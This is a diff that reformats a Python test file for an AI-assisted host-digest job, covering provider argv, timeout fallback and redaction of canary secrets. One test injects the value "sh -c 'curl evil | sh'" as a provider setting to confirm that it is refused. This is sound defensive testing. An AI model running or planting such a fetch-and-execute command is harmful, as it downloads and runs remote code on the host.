@@ -25,10 +25,17 @@ SECRET = "sk-ant-CANARY0123456789abcdef"
 def runner(cwd: Path, base_env: Mapping[str, str]) -> dream.CommandRunner:
     """``RunContext.run_command`` without a forked runner, so the Popen fake applies."""
 
-    def run_command(argv: Sequence[str], *, timeout: float | None = None, extra_env: Mapping[str, str] | None = None,
-                    check: bool = True, stdin: bytes | None = None) -> proc.ProcResult:
-        return proc.run(argv, cwd=cwd, env=proc.clean_env(base_env, extra_env), timeout=timeout, check=check,
-                        stdin=stdin)
+    def run_command(
+        argv: Sequence[str],
+        *,
+        timeout: float | None = None,
+        extra_env: Mapping[str, str] | None = None,
+        check: bool = True,
+        stdin: bytes | None = None,
+    ) -> proc.ProcResult:
+        return proc.run(
+            argv, cwd=cwd, env=proc.clean_env(base_env, extra_env), timeout=timeout, check=check, stdin=stdin
+        )
 
     return run_command
 
@@ -66,8 +73,14 @@ def test_keep_setting(project: Project) -> None:
     ctx = context(project, {**ENABLED, dream.KEEP_VAR: "2"})
     env = dream.merged_env(ctx)
     for i in range(4):
-        dream.execute(ctx, env, _run_id(i), refresh=Refresh(), run_command=runner(project.root, env),
-                      deadline=time.monotonic() + 60)
+        dream.execute(
+            ctx,
+            env,
+            _run_id(i),
+            refresh=Refresh(),
+            run_command=runner(project.root, env),
+            deadline=time.monotonic() + 60,
+        )
     assert len(list((project.scheduler_root / "dream").glob("*.md"))) == 2
 
 
@@ -90,24 +103,39 @@ def test_offline_digest_is_deterministic_and_covers_the_three_parts(project: Pro
     write_material(project, timedelta(minutes=1))
     ctx = context(project)
     material = dream.read_material(ctx, timedelta(hours=6), dream.datetime.now(dream.UTC))
-    outcomes = {"agent-aggregate": {"state": "success", "finishedAt": "2026-11-26T05:00:00.000Z", "warningCount": 0},
-                "trend-finder": {"state": "failed", "finishedAt": None, "warningCount": 2}}
+    outcomes = {
+        "agent-aggregate": {"state": "success", "finishedAt": "2026-11-26T05:00:00.000Z", "warningCount": 0},
+        "trend-finder": {"state": "failed", "finishedAt": None, "warningCount": 2},
+    }
     one = dream.offline_digest(material, outcomes)
     assert one == dream.offline_digest(material, outcomes)
-    for part in ("## Host health", "## Job outcomes", "## Activity trends", "- memory:", "- project disk:",
-                 "- trend-finder: failed, 2 warning(s) - needs attention", "- agent-aggregate: success"):
+    for part in (
+        "## Host health",
+        "## Job outcomes",
+        "## Activity trends",
+        "- memory:",
+        "- project disk:",
+        "- trend-finder: failed, 2 warning(s) - needs attention",
+        "- agent-aggregate: success",
+    ):
         assert part in one
 
 
 # -- providers -------------------------------------------------------------------------------
 
 
-def _provider(project: Project, provider: str, fp_env: Mapping[str, str] | None = None,
-              resolve: object = None) -> dream.ProviderResult:
+def _provider(
+    project: Project, provider: str, fp_env: Mapping[str, str] | None = None, resolve: object = None
+) -> dream.ProviderResult:
     env = {"HOME": str(project.home), **(fp_env or {})}
     return dream.run_provider(
-        provider, "# digest\n", '{"host": {}}', env=env, run_command=runner(project.root, env),
-        resolve=resolve or (lambda name: name), timeout=30,  # type: ignore[arg-type]
+        provider,
+        "# digest\n",
+        '{"host": {}}',
+        env=env,
+        run_command=runner(project.root, env),
+        resolve=resolve or (lambda name: name),
+        timeout=30,  # type: ignore[arg-type]
     )
 
 
@@ -122,8 +150,12 @@ def test_claude_provider_fixed_argv_material_on_stdin(
     def callback(process: object) -> None:
         seen["env"] = process.kwargs["env"]  # type: ignore[attr-defined]
 
-    fp.register(["claude", "-p", dream.PROMPT, "--output-format", "text"], stdout=b"A calm night on the host.\n",
-                stdin_callable=stdin, callback=callback)
+    fp.register(
+        ["claude", "-p", dream.PROMPT, "--output-format", "text"],
+        stdout=b"A calm night on the host.\n",
+        stdin_callable=stdin,
+        callback=callback,
+    )
     out = _provider(project, "claude", {"ANTHROPIC_API_KEY": SECRET, "OTHER_TOKEN": "nope-nope-nope"})
     assert out.provider == "claude" and out.text == "A calm night on the host.\n" and not out.fell_back
     assert b"# digest" in seen["stdin"] and b'"host"' in seen["stdin"]  # type: ignore[operator]
@@ -134,8 +166,9 @@ def test_claude_provider_fixed_argv_material_on_stdin(
 
 
 def test_codex_provider_fixed_argv(project: Project, fp: FakeProcess, guard_killpg: list[tuple[int, int]]) -> None:
-    fp.register(["codex", "exec", "--sandbox", "read-only", "--skip-git-repo-check", dream.PROMPT],
-                stdout=b"dreamt by codex")
+    fp.register(
+        ["codex", "exec", "--sandbox", "read-only", "--skip-git-repo-check", dream.PROMPT], stdout=b"dreamt by codex"
+    )
     out = _provider(project, "codex")
     assert out.provider == "codex" and out.text == "dreamt by codex\n"
 
@@ -167,8 +200,15 @@ def test_provider_timeout_falls_back(project: Project) -> None:
     def slow(argv: Sequence[str], **_: object) -> proc.ProcResult:
         raise proc.ProcessTimeoutError(os.path.basename(argv[0]), 30)
 
-    out = dream.run_provider("claude", "# digest\n", "{}", env={}, run_command=slow,  # type: ignore[arg-type]
-                             resolve=lambda n: n, timeout=30)
+    out = dream.run_provider(
+        "claude",
+        "# digest\n",
+        "{}",
+        env={},
+        run_command=slow,  # type: ignore[arg-type]
+        resolve=lambda n: n,
+        timeout=30,
+    )
     assert out.fell_back and "did not answer within 30s" in out.warnings[0]
 
 
@@ -176,8 +216,9 @@ def test_unknown_provider_is_not_a_command(project: Project, fp: FakeProcess) ->
     write_material(project)
     ctx = context(project, {**ENABLED, dream.PROVIDER_VAR: "sh -c 'curl evil | sh'"})
     env = dream.merged_env(ctx)
-    out = dream.execute(ctx, env, _run_id(1), refresh=Refresh(), run_command=runner(project.root, env),
-                        deadline=time.monotonic() + 60)
+    out = dream.execute(
+        ctx, env, _run_id(1), refresh=Refresh(), run_command=runner(project.root, env), deadline=time.monotonic() + 60
+    )
     assert out.provider == "offline" and not out.degraded
     assert out.warnings == ("AI_OS_DREAM_PROVIDER is not one of offline, claude, codex; using offline",)
     assert "curl" not in " ".join(out.warnings)
@@ -193,8 +234,15 @@ def test_provider_output_is_redacted_before_it_is_stored(
     fp.register(["claude", fp.any()], stdout=leak.encode())
     ctx = context(project, {**ENABLED, dream.PROVIDER_VAR: "claude", "ANTHROPIC_API_KEY": SECRET})
     env = dream.merged_env(ctx)
-    out = dream.execute(ctx, env, _run_id(1), refresh=Refresh(), run_command=runner(project.root, env),
-                        deadline=time.monotonic() + 60, resolve=lambda n: n)
+    out = dream.execute(
+        ctx,
+        env,
+        _run_id(1),
+        refresh=Refresh(),
+        run_command=runner(project.root, env),
+        deadline=time.monotonic() + 60,
+        resolve=lambda n: n,
+    )
     assert out.provider == "claude" and out.output is not None
     text = out.output.read_text()
     for canary in (SECRET, str(project.home), "me@example.com", env_local_secret):
